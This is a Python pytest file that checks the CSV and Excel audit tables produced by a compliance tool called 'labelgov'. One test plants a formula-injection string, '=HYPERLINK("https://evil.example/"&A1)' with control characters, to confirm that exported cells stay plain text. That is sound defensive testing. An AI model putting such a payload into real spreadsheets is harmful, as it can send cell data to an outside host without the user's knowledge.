"""The tables of a bundle: every control, resource, finding, change and waiver, and what is unknown is said."""

import csv
import io
import json
from collections import Counter
from dataclasses import replace
from datetime import date

import openpyxl
import pytest
from jsonschema import Draft202012Validator

from labelgov.audit import tables
from labelgov.audit.compliance import frameworks
from labelgov.audit.sheets.text import line, meant
from labelgov.facts import Ask
from labelgov.kinds import KINDS, Part, fields
from labelgov.kinds.waiver import Waiver
from labelgov.policy import cards
from labelgov.portfolio import Portfolio, link
from labelgov.results import (
    Approval,
    Changes,
    Direction,
    Event,
    FieldChange,
    Finding,
    GateChange,
    GateTopic,
    Landing,
    Place,
    ResourceChange,
    Status,
    Topic,
)


def made(review):
    """The tables of a review by path."""
    return {file.path: file for part in (tables.files, tables.inventory) for file in part(review)}


@pytest.fixture(scope="module")
def files(review):
    return made(review)


def rows(file):
    """The rows of a CSV, each by its headings."""
    read = list(csv.reader(io.StringIO(file.content.decode("utf-8-sig"), newline="")))
    heads, *body = [[meant(cell) for cell in row] for row in read]
    assert len(heads) == len(set(heads)), "a heading stands twice"
    assert all(len(row) == len(heads) for row in body)
    return [dict(zip(heads, row, strict=True)) for row in body]


def book(file):
    return openpyxl.load_workbook(io.BytesIO(file.content))


def test_every_file_says_what_it_is_but_for_those_of_which_there_are_many(files):
    for file in files.values():
        many = file.path.startswith("inventory/") and file.path != "inventory/columns.csv"
        assert bool(file.says) is not many, file.path
        assert file.says.endswith("." * (not many))
    assert {path for path in files if path.endswith(".xlsx")} == {
        "controls.xlsx",
        "inventory.xlsx",
        "period.xlsx",
        "registers.xlsx",
    }


def test_every_column_of_every_csv_is_explained(files):
    told = (*rows(files["columns.csv"]), *rows(files["inventory/columns.csv"]))
    explained = {(row["File"], row["Column"]): row for row in told}
    for path, file in files.items():
        if path.endswith(".csv") and not path.endswith("columns.csv"):
            heads = file.content.decode("utf-8-sig").split("\r\n")[0]
            for name in next(csv.reader([heads])):
                name = meant(name).removesuffix(" (currency)")
                assert explained[path, name]["What it holds"].endswith("."), (path, name)


def test_a_sheet_holds_what_its_csv_holds(files):
    """Cell by cell, as far as both are text; numbers and days are held by the tests of sheets."""
    for path, name in (("controls.csv", "controls"), ("waivers.csv", "waivers"), ("timeline.csv", "timeline")):
        workbook = book(files["controls.xlsx" if name == "controls" else "period.xlsx"])
        heads, *body = list(workbook[name].iter_rows(values_only=True))
        expected = rows(files[path])
        assert len(body) == len(expected)
        for cells, row in zip(body, expected, strict=True):
            for head, cell in zip(heads, cells, strict=True):
                if isinstance(cell, str):
                    assert cell == row[head]


def test_each_control_of_each_framework_has_one_row_those_without_a_rule_too(review, files):
    listed = rows(files["controls.csv"])
    known = [(each.name, control.clause) for each in frameworks(review) for control in each.controls]
    assert [(row["Framework"], row["Control"]) for row in listed] == known
    untested = [row for row in listed if row["Number of rules"] == "0"]
    assert untested
    for row in untested:
        assert row["Status"] == "not tested"
        assert row["Note"].startswith("No rule tests this control.")


def test_the_days_of_a_control_that_is_tested_are_those_of_the_period(review, files):
    words = ("in compliance", "out of compliance", "with a waiver", "with an advisory finding", "unknown")
    for row in rows(files["controls.csv"]):
        days = [int(row[f"Days {word}"]) for word in words]
        if row["Status"] in words:
            assert sum(days) == review.timeline.days
        population = sum(int(row[f"Resources {word}"]) for word in words)
        assert population == int(row["Resources"])


def test_days_of_which_nothing_is_known_are_never_days_in_compliance(files):
    tested = [row for row in rows(files["controls.csv"]) if row["Status"] == "in compliance"]
    assert tested
    assert {row["Days unknown"] for row in tested} >= {"4"}
    assert [row["Days"] for row in rows(files["unknown-days.csv"])] == ["4"]


def test_every_rule_is_listed_with_how_it_came_out(review, files):
    counted = Counter(outcome.rule for outcome in review.verdict.outcomes)
    names = ("Passed", "With findings", "Waived", "Unanswered", "Not applicable")
    listed = {row["Rule"]: row for row in rows(files["rules.csv"])}
    assert listed.keys() == review.gate.cards.keys()
    for rule, row in listed.items():
        assert sum(int(row[name]) for name in names) == counted[rule]


def leaves(part: type[Part], prefix: str = "") -> list[str]:
    """The ways to all fields of a part that aren't parts themselves."""
    found = []
    for shape in fields(part):
        if shape.part is not None and shape.container == "one":
            found += leaves(shape.part, f"{prefix}{shape.name}.")
        else:
            found.append(f"{prefix}{shape.name}")
    return found


@pytest.mark.parametrize("kind", KINDS, ids=lambda kind: kind.__name__)
def test_the_inventory_has_a_sheet_a_kind_with_every_field_of_it(kind, review, files):
    heads = next(book(files["inventory.xlsx"])[kind.__name__].iter_rows(values_only=True))
    expected = [name for name in leaves(kind) if (kind.__name__, name) != ("Policy", "rules")]
    envelope = ["name", "title", "labels", "annotations", "file"]
    assert [head for head in heads if not head.endswith("(currency)")] == [*envelope, *expected]
    path = f"inventory/{''.join(f'-{each.lower()}' if each.isupper() else each for each in kind.__name__)[1:]}.csv"
    resources = [pack.resource for pack in review.gate.packs] if kind.__name__ == "Policy" else None
    names = [each.name for each in resources or review.ask.portfolio.of(kind)]
    assert [row["name"] for row in rows(files[path])] == sorted(names)


def test_declared_values_stand_in_the_inventory_as_they_are_written(files):
    contracts = {row["name"]: row for row in rows(files["inventory/contract.csv"])}
    assert contracts["sow-lumen-search-2026"]["ceiling (currency)"] == "USD"
    assert contracts["sow-lumen-search-2026"]["term.start"] == "2026-01-01"
    prices = {(row["resource"], row["task"]): row["price"] for row in rows(files["inventory/contract.rates.csv"])}
    assert prices["sow-lumen-search-2026", "pairwise-relevance"].startswith("0.0")
    tiers = rows(files["inventory/contract.rates.tiers.csv"])
    assert tiers[0].keys() == {"resource", "rates[]", "rates.tiers[]", "from", "price", "price (currency)"}


def test_the_record_of_processing_names_what_it_can_not_answer(review, files):
    personal = [each for each in rows(files["registers/article-30-1.csv"]) if each["Program"]]
    assert personal
    for row in personal:
        assert row["Controller"] == "Wayfinder Discovery, Inc."
        assert row["Joint controllers"].startswith("unknown: labelgov keeps no field for it")
        assert row["Categories of data"]
        assert row["Purpose"]
    safety = next(row for row in personal if row["Program"] == "content-safety")
    assert "Harbour Trust & Safety Ltd. (IE)" in safety["Recipients"]
    assert "CO from the EU: scc-2021-module-3 (sow-harbour-safety-2026)" in safety["Transfers"]


def test_every_subprocessor_vendor_contract_and_budget_is_in_its_register(review, files):
    for path, kind in (("vendors", "Vendor"), ("contracts", "Contract"), ("budgets", "Budget")):
        expected = [each.name for each in review.ask.portfolio.own if each.kind == kind]
        listed = rows(files[f"registers/{path}.csv"])
        assert [row[kind] for row in listed] == expected
    others = sum(len(each.spec.subprocessors) for each in review.ask.portfolio.own if each.kind == "Vendor")
    assert len(rows(files["registers/sub-processors.csv"])) == others
    quarters = rows(files["registers/budget-quarters.csv"])
    assert [row["Quarter"] for row in quarters] == ["Q1", "Q2", "Q3", "Q4"]


def test_a_contract_has_its_state_and_its_expiry_in_the_register(files):
    states = {
        row["Contract"]: (row["State"], row["Last day in force"]) for row in rows(files["registers/contracts.csv"])
    }
    assert states["sow-lumen-search-2026"] == ("active", "2026-12-31")
    assert len({state for state, _ in states.values()}) > 2


@pytest.fixture(scope="module")
def without_rates(review):
    """The review of a company that names no planning rates, so that sums over currencies can't be computed."""
    own = [
        replace(each, spec=each.spec.model_copy(update={"exchange_rates": ()})) if each.kind == "Organization" else each
        for each in review.ask.portfolio.own
    ]
    portfolio, _ = link(own, review.gate.shipped)
    return replace(review, ask=Ask(portfolio, review.end))


def test_a_fact_that_can_not_be_known_says_why_and_is_never_empty(without_rates):
    files = made(without_rates)
    (budget,) = rows(files["registers/budgets.csv"])
    assert budget["Contracted"].startswith("unknown: ")
    assert "rate" in budget["Contracted"]
    assert budget["Contracted (currency)"] == ""
    (quarters,) = rows(files["registers/budget-quarters.csv"])
    assert quarters["Forecast"].startswith("unknown: ")
    cells = [cell for row in book(files["registers.xlsx"])["vendors"].iter_rows(values_only=True) for cell in row]
    assert any(str(cell).startswith("unknown: ") for cell in cells)


def test_the_timeline_has_a_row_for_each_time_that_a_finding_stood(review, files):
    listed = rows(files["timeline.csv"])
    assert len(listed) == len(review.timeline.episodes)
    closed = next(row for row in listed if row["Closed"])
    assert (closed["Opened"], closed["Closed"]) == ("2026-02-01", "2026-02-11")
    assert (closed["Opened by"], closed["Closed by"]) == ("calendar", "change")
    assert [closed[f"Days{name}"] for name in ("", " blocking", " waived")] == ["10", "6", "4"]
    assert closed["Stands at the end"] == "no"
    assert {row["Closed"] for row in listed if row["Stands at the end"] == "yes"} == {""}


def test_the_timeline_for_programs_keeps_to_its_schema(review, files):
    schema = json.loads(files["timeline.schema.json"].content)
    Draft202012Validator.check_schema(schema)
    validator = Draft202012Validator(schema, format_checker=Draft202012Validator.FORMAT_CHECKER)
    timeline = json.loads(files["timeline.json"].content)
    assert not list(validator.iter_errors(timeline))
    assert timeline["commit"] == review.commit.id
    assert len(timeline["episodes"]) == len(review.timeline.episodes)
    broken = {**timeline, "episodes": [{**timeline["episodes"][0], "stretches": []}]}
    assert list(validator.iter_errors(broken))


def field_change(key, before, after, direction=Direction.LOOSENED, event=Event.CHANGED):
    return FieldChange(("spec",), key, key, event, before, after, "", f"{before} → {after}", direction, Topic.RISK)


def resource_change(name, event, *changed):
    place = Place("programs/x.yaml", 0, ())
    return ResourceChange(name, "A title", event, Topic.RISK, Direction.LOOSENED, place, changed, ())


def changes(*resources, unread=()):
    return Changes(date(2026, 3, 2), "before", "after", (), resources, (), unread=unread)


@pytest.fixture(scope="module")
def landed(review):
    """The review with a past in which a contract and two waivers changed, one of them away."""
    first, second = review.landings
    finding = review.verdict.findings[0]
    extended = resource_change(
        "Waiver/puente-pesos", Event.CHANGED, field_change("spec.until", "2026-08-01", "2026-10-30")
    )
    removed = resource_change(
        "Waiver/gone",
        Event.REMOVED,
        field_change("spec.rule", "privacy/dpia-is-current", None, event=Event.REMOVED),
        field_change("spec.until", "2026-04-01", None, event=Event.REMOVED),
    )
    contract = resource_change(finding.resource, Event.CHANGED, field_change("spec.ceiling", "1.00 USD", "=2.00 USD"))
    gate = GateChange(
        GateTopic.POLICY,
        "privacy",
        "=a rule is gone",
        Direction.LOOSENED,
        Place("labelgov.yaml", 0, ()),
        ("executive",),
    )
    approvals = (Approval("r.haddad", "Rana Haddad", "ranahaddad", ("executive",)),)
    landings = (
        Landing(first.commit, changes(extended, removed, contract), (gate,), approvals, (finding.fingerprint,), ()),
        Landing(second.commit, changes(), approvals=()),
    )
    return replace(review, landings=landings)


def test_every_change_of_meaning_has_a_row_with_who_and_what_it_opened(landed):
    listed = rows(made(landed)["changes.csv"])
    finding = landed.verdict.findings[0]
    by_about = Counter(row["About"] for row in listed)
    assert by_about == {"resource": 4, "gate": 1, "commit": 1}
    ceiling = next(row for row in listed if row["Field"] == "spec.ceiling")
    assert (ceiling["Before"], ceiling["After"]) == ("1.00 USD", "=2.00 USD")
    assert ceiling["Findings opened"] == finding.rule.id
    assert ceiling["Reviewers"] == "r.haddad (executive)"
    assert ceiling["Author"] == "Maria Okafor <m.okafor@wayfinder.example>"
    assert listed[-1]["What changed"] == "No change of meaning."
    assert listed[-1]["Reviewers"] == "nobody"


def test_what_a_commit_opened_on_a_resource_that_it_left_alone_has_a_row_of_its_own(review):
    finding = review.verdict.findings[0]
    landing = Landing(review.landings[0].commit, changes(), opened=(finding.fingerprint,))
    (row,) = rows(made(replace(review, landings=(landing,)))["changes.csv"])
    assert (row["About"], row["Event"], row["Findings opened"]) == ("finding", "opened", finding.rule.id)
    assert row["What changed"] == finding.message
    assert row["Reviewers"] == "unknown: no evidence of reviews was kept"


def test_a_commit_of_which_nothing_is_known_says_so(review):
    (first, *_) = rows(made(review)["changes.csv"])
    assert "could not be read: what changed is unknown" in first["What changed"]
    landing = Landing(review.landings[0].commit, changes(unread=("a.yaml can't be read on before: tab",)))
    (row,) = rows(made(replace(review, landings=(landing,)))["changes.csv"])
    assert row["What changed"] == "a.yaml can't be read on before: tab"


def test_a_waiver_says_who_gave_it_how_it_was_extended_and_what_it_covered(landed):
    listed = {row["Waiver"]: row for row in rows(made(landed)["waivers.csv"])}
    pesos = listed["puente-pesos"]
    commit = landed.landings[0].commit.id[:12]
    assert pesos["Granted by"] == "v.shah as finance on 2026-05-04"
    assert pesos["Extended"] == f"2026-08-01 to 2026-10-30 (2026-03-02, {commit})"
    assert pesos["Covered"] == "wayfinder/work-is-priced-in-a-hedged-currency on Contract/sow-puente-spam-2026"
    assert (pesos["Length"], pesos["State"]) == ("180", "in force")
    stretches = [each for one in landed.timeline.episodes for each in one.stretches if each.waiver == "puente-pesos"]
    assert pesos["Days used"] == str(sum((each.until - each.since).days + 1 for each in stretches))
    assert pesos["Last day used"] == "2026-06-30"


def test_a_waiver_that_was_taken_away_is_told_as_it_was(landed):
    gone = {row["Waiver"]: row for row in rows(made(landed)["waivers.csv"])}["gone"]
    assert (gone["State"], gone["Rule"], gone["Until"]) == ("removed", "privacy/dpia-is-current", "2026-04-01")
    assert gone["Removed"].startswith("2026-03-02, ")
    assert (gone["Covered"], gone["Days used"]) == ("nothing", "0")


def test_a_waiver_that_ran_out_or_has_yet_to_begin_is_told_so(review):
    later = replace(review, end=date(2027, 1, 1))
    assert {row["State"] for row in rows(made(later)["waivers.csv"])} == {"expired", "removed"}
    earlier = replace(review, end=date(2026, 1, 1))
    assert {row["State"] for row in rows(made(earlier)["waivers.csv"])} == {"to come", "removed"}


def test_what_is_wrong_with_a_waiver_itself_stands_beside_it(review):
    place = Place("programs/waivers.yaml", 0, ())
    card = cards.WAIVER_APPROVAL
    wrong = Finding(card, "Waiver/puente-pesos", "It is approved by nobody who may.", card.fix, place)
    found = replace(review, verdict=replace(review.verdict, findings=(*review.verdict.findings, wrong)))
    listed = {row["Waiver"]: row["Findings on it"] for row in rows(made(found)["waivers.csv"])}
    assert listed["puente-pesos"] == "It is approved by nobody who may."
    assert not any(said for name, said in listed.items() if name != "puente-pesos")


def test_no_table_has_rows_where_nothing_is_declared(review):
    empty = replace(
        review,
        ask=Ask(Portfolio((), review.gate.shipped), review.end),
        timeline=replace(review.timeline, episodes=(), gaps=(), commits=()),
        landings=(),
    )
    files = made(empty)
    for path in ("changes.csv", "waivers.csv", "timeline.csv", "unknown-days.csv", "registers/vendors.csv"):
        assert rows(files[path]) == []
    assert book(files["inventory.xlsx"])["Waiver"].max_row == 1


def test_evil_texts_are_text_in_every_table(review):
    evil = '=HYPERLINK("https://evil.example/"&A1)\n\x1b[31m\u202e@SUM(1)'
    waiver = review.ask.portfolio.of(Waiver)[0]
    own = [
        replace(each, spec=each.spec.model_copy(update={"reason": evil, "ticket": "+1"})) if each is waiver else each
        for each in review.ask.portfolio.own
    ]
    portfolio, _ = link(own, review.gate.shipped)
    files = made(replace(review, ask=Ask(portfolio, review.end)))
    row = next(row for row in rows(files["waivers.csv"]) if row["Waiver"] == waiver.name)
    assert (row["Reason"], row["Ticket"]) == (line(evil), "+1")
    for path, file in files.items():
        if path.endswith(".csv"):
            for cells in csv.reader(io.StringIO(file.content.decode("utf-8-sig"), newline="")):
                assert not [cell for cell in cells if cell[:1] in tuple("=+@\t\r") or "\x1b" in cell]
        if path.endswith(".xlsx"):
            assert not [cell for sheet in book(file) for row in sheet for cell in row if cell.data_type == "f"]


def test_statuses_of_findings_are_counted_in_the_registers(review, files):
    counted = Counter(finding.status for finding in review.verdict.findings if finding.resource.startswith("Contract/"))
    listed = rows(files["registers/contracts.csv"])
    assert sum(int(row["Waived findings"]) for row in listed) == counted[Status.WAIVED]
    assert sum(int(row["Advisory findings"]) for row in listed) == counted[Status.ADVISORY]
